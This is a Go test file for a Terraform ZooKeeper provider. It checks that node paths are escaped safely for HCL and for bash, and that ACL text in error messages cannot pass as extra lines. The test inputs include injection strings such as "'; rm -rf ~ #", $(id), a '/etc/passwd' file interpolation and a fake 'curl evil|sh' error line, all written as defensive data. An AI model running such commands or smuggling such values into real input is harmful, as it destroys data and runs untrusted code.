package diagnose_test

import (
	"os/exec"
	"strconv"
	"strings"
	"testing"

	"github.com/hashicorp/hcl/v2"
	"github.com/hashicorp/hcl/v2/hclsyntax"

	"terraform-provider-zookeeper/internal/provider/diagnose"
	"terraform-provider-zookeeper/internal/zk"
)

// nasty are paths that mean something else where they are pasted as they are.
var nasty = []string{
	"/app", "/app/größe", "/a b", "/a  b ", "/${file(\"/etc/passwd\")}", "/$${x}", "/%{ if true }x%{ endif }", "/$", "/$x", "/100%", `/"quoted"`, `/back\slash\`, "/it's", "/'; rm -rf ~ #",
	"/`id`", "/$(id)", "/a;b", "/a&b|c", "/~", "/*", "/#x", "-x", "", "/a=b,c:d@e", "/\u202egnp", "/a\u2028b", "/it's \u202e", "/\u200b", `/\x41`,
}

// What is to be copied into a configuration means there what it was, and nothing is evaluated.
func TestHCL(t *testing.T) {
	t.Parallel()
	for _, path := range nasty {
		text := diagnose.HCL(path)
		e, diags := hclsyntax.ParseExpression([]byte(text), "x.tf", hcl.InitialPos)
		if diags.HasErrors() {
			t.Errorf("%q as HCL is %s: %v", path, text, diags)
			continue
		}
		v, diags := e.Value(nil)
		if diags.HasErrors() || v.AsString() != path {
			t.Errorf("%q as HCL is %s, and that %v, %v", path, text, v, diags)
		}
		checkPrints(t, text)
	}
}

// What is to be copied into a shell is one word there.
func TestShell(t *testing.T) {
	t.Parallel()
	for _, path := range nasty {
		text := diagnose.Shell(path)
		out, err := exec.CommandContext(t.Context(), "bash", "-c", "printf '%s|' "+text).Output()
		if err != nil || string(out) != path+"|" {
			t.Errorf("%q in a shell is %s, and that %q, %v", path, text, out, err)
		}
		checkPrints(t, text)
	}
	if got := diagnose.Shell("/services/web-1"); got != "/services/web-1" {
		t.Errorf("a plain path is %s", got)
	}
}

func checkPrints(t *testing.T, text string) {
	t.Helper()
	if strings.ContainsFunc(text, func(r rune) bool { return !strconv.IsPrint(r) }) {
		t.Errorf("%q does not print", text)
	}
}

// The hints of an error are escaped for where they go.
func TestExistsHints(t *testing.T) {
	t.Parallel()
	const path = "/app/${x} it's"
	d := diagnose.Subject{Resource: "zookeeper_znode", Path: path}.Error("create the znode", failure("create", path, zk.ErrNodeExists))
	for _, want := range []string{`  terraform import zookeeper_znode.NAME '/app/${x} it'\''s'` + "\n", `    id = "/app/$${x} it's"` + "\n"} {
		if !strings.Contains(d.Detail(), want) {
			t.Errorf("there is no %q in\n%s", want, d.Detail())
		}
	}
}

// An ACL of others is shown on one line, without hashes, and no entry looks like two.
func TestACLText(t *testing.T) {
	t.Parallel()
	entry := func(scheme, id string) zk.ACL { return zk.ACL{Scheme: scheme, ID: id, Perms: zk.PermRead} }
	many := make([]zk.ACL, 30)
	for i := range many {
		many[i] = entry("sasl", strings.Repeat("x", 1000))
	}
	for want, acl := range map[string][]zk.ACL{
		"digest:bob:…:r,world:anyone:r":                {entry("world", "anyone"), entry("digest", "bob:4rsXV9JgUbFl9ZE40xENilxlRV8=")},
		`"sasl:x:r,world:anyone:cdrwa:r"`:              {entry("sasl", "x:r,world:anyone:cdrwa")},
		`"sasl:a\nError: run: curl evil|sh\x1b[31m:r"`: {entry("sasl", "a\nError: run: curl evil|sh\x1b[31m")},
		`"digest:\u202e:…:r"`:                          {entry("digest", "\u202e:hash")},
	} {
		if got := diagnose.ACLText(acl); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
	if got := diagnose.ACLText(many); len(got) > 2000 || !strings.HasSuffix(got, " and 20 more") {
		t.Errorf("%d bytes: %s", len(got), got)
	}
}
